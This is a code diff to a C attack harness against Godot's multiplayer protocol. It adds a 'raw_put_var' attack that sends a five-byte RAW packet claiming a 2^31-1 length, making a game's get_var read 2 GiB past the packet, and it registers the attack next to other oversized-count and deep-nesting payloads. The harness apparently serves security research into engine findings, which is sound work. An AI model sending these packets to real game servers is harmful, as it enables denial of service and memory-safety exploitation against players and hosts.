@@ -68,10 +68,12 @@ static void put_cstring(buf_t *b, const char *s) { put_bytes(b, s, strlen(s) + 1
 typedef struct {
     int gen;
     unsigned t_int, t_string, t_object, t_dictionary, t_array, t_byte_array, t_int32_array;
+    unsigned cmd_raw; /* the RAW command (send_bytes): 4.6.3 scene_multiplayer.h NETWORK_COMMAND_RAW 3, 3.6.2
+                         core/io/multiplayer_api.h NETWORK_COMMAND_RAW 4 */
 } gen_t;
 static const gen_t GENS[] = {
-    {4, 2, 4, 24, 27, 28, 29, 30},
-    {3, 2, 4, 17, 18, 19, 20, 21},
+    {4, 2, 4, 24, 27, 28, 29, 30, 3},
+    {3, 2, 4, 17, 18, 19, 20, 21, 4},
 };
 
 /* One argument Variant. Godot 4 sends INT compressed (scene/main/multiplayer_api.cpp: 0x02 and one
@@ -216,6 +218,13 @@ static void claim(ctx_t *c, int method, uint32_t type, uint32_t count, const uin
 static void a_bytes_2gb(ctx_t *c) { /* a PackedByteArray claiming 0x7FFFFFF0 bytes, carrying 16 (00 01 ... 0F) */
     const uint32_t bytes[] = {0x03020100, 0x07060504, 0x0B0A0908, 0x0F0E0D0C};
     claim(c, M_BLOB, c->g->t_byte_array, 0x7FFFFFF0u, bytes, 4);
+}
+/* A RAW packet (send_bytes) holding the put_var length 2^31-1 and nothing after it: a game reading it with
+ * StreamPeerBuffer.get_var reads 2 GiB past the packet (docs/engine-findings.md, finding 3). */
+static void a_raw_put_var(ctx_t *c) {
+    uint8_t b[5] = {(uint8_t)c->g->cmd_raw, 0xff, 0xff, 0xff, 0x7f};
+    buf_t m = {b, sizeof b};
+    send_mp(c, &m, 1, c->my_id);
 }
 static void a_count_array(ctx_t *c) { /* an Array claiming 2^31-1 elements, carrying one 32-bit int 1 */
     const uint32_t one[] = {c->g->t_int, 1};
@@ -389,6 +398,7 @@ static const attack_t ATTACKS[] = {
     {"depth_1100", a_depth_1100, "any(Array nested 1,100 deep), past MAX_RECURSION_DEPTH 1024"},
     {"depth_27000", a_depth_27000, "any(Array nested 27,000 deep), 216 KB"},
     {"bytes_2gb", a_bytes_2gb, "blob(PackedByteArray claiming 0x7FFFFFF0 bytes, 16 sent)"},
+    {"raw_put_var", a_raw_put_var, "RAW (send_bytes) of the put_var length 2^31-1, read by the game with StreamPeerBuffer.get_var"},
     {"count_array", a_count_array, "any(Array claiming 2^31-1 elements, 1 sent)"},
     {"count_int32", a_count_int32, "any(PackedInt32Array claiming 2^29 elements, 4 sent)"},
     {"count_dictionary", a_count_dictionary, "any(Dictionary claiming 2^31-1 pairs, 0 sent)"},
